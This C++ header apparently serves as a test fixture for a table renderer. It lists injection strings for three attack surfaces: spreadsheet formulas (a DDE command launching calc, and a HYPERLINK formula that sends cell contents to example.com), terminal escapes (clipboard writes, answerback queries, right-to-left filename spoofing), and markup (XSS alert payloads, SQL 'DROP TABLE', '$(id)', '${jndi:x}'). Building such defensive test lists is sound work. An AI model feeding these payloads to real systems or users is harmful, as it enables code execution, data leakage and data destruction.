// Texts that attack whoever shows a table: known from published lists of CSV injection, terminal escapes and HTML injection.
#pragma once

#include <algorithm>
#include <string>
#include <string_view>
#include <vector>

namespace safety {

inline const std::vector<std::string>& formulas() {
  static const std::vector<std::string> kAll = {
      "=1+1",
      "+1+1",
      "-1+1",
      "@SUM(1,1)",
      "\t=1+1",
      "\r=1+1",
      "\n=1+1",
      "＝1+1",
      "＋1+1",
      "－1+1",
      "＠SUM(1,1)",
      "=cmd|'/C calc'!A0",
      "=DDE(\"cmd\";\"/C calc\";\"x\")",
      "=HYPERLINK(\"http://example.com/?\"&A1,\"x\")",
      "=WEBSERVICE(\"http://example.com/\")",
      "'=1+1",
      "\"=1+1",
      "x;=1+1",
      "x\t=1+1",
      "x,=1+1",
      "x\",=1+1,\"",
      "x\n=1+1",
      "x\r\n=1+1",
  };
  return kAll;
}

inline const std::vector<std::string>& terminal_escapes() {
  static const std::vector<std::string> kAll = {
      "\x1b[2J\x1b[1;1H",                                 // clear the screen
      "\x1b[31;1mred",                                    // colours
      "\x1b]0;title\x07",                                 // the window's title
      "\x1b]52;c;ZXZpbA==\x07",                           // the clipboard
      "\x1b]8;;http://example.com\x1b\\x\x1b]8;;\x1b\\",  // a link
      "\x1bP$q\"p\x1b\\",                                 // DCS
      "\x1b[6n",                                          // the terminal answers, as if typed
      "\xC2\x9B"
      "31m",  // CSI in one character
      "\xC2\x9D"
      "0;x\xC2\x9C",   // OSC in one character
      "real\rforged",  // over the line's start
      "x\b\b\by",
      "bell\x07",
      "\x7f\x7f",
      "\xE2\x80\xAE"
      "txt.exe",  // right to left
      "\xE2\x80\xAA\xE2\x80\xAB\xE2\x80\xAC\xE2\x80\xAD",
      "\xE2\x81\xA6\xE2\x81\xA7\xE2\x81\xA8\xE2\x81\xA9",
      "a\xE2\x80\x8B"
      "b\xE2\x80\x8D\xEF\xBB\xBF",    // zero width
      "x\xE2\x80\xA8y\xE2\x80\xA9z",  // line and paragraph separator
  };
  return kAll;
}

inline const std::vector<std::string>& markup() {
  static const std::vector<std::string> kAll = {
      "<script>alert(1)</script>",
      "</script><script>alert(1)</script>",
      "<img src=x onerror=alert(1)>",
      "<svg onload=alert(1)>",
      "\"><svg/onload=alert(1)>",
      "' onmouseover='alert(1)",
      "]]><script>alert(1)</script>",
      "--><script>alert(1)</script>",
      "</title><script>alert(1)</script>",
      "</style><script>alert(1)</script>",
      "<a href=\"javascript:alert(1)\">x</a>",
      "&lt;script&gt;alert(1)&lt;/script&gt;",
      "&#60;script&#62;",
      "[x](javascript:alert(1))",
      "![x](http://example.com/x.png)",
      "`code` ``` fence",
      "a | b | c",
      "a \\| b",
      "**bold** _x_ ~~y~~",
      "# heading",
      "';DROP TABLE targets;--",
      "\");DROP TABLE targets;--",
      "{\"a\":1}",
      "\\\",\"role\":\"forged",
      "${jndi:x} $(id) `id` %s%n",
  };
  return kAll;
}

inline std::vector<std::string> payloads() {
  std::vector<std::string> all;
  for (const auto* list : {&formulas(), &terminal_escapes(), &markup()})
    all.insert(all.end(), list->begin(), list->end());
  return all;
}

/// As a file can be named.
inline std::string as_name(std::string text) {
  std::replace(text.begin(), text.end(), '/', '%');
  return text;
}

}  // namespace safety
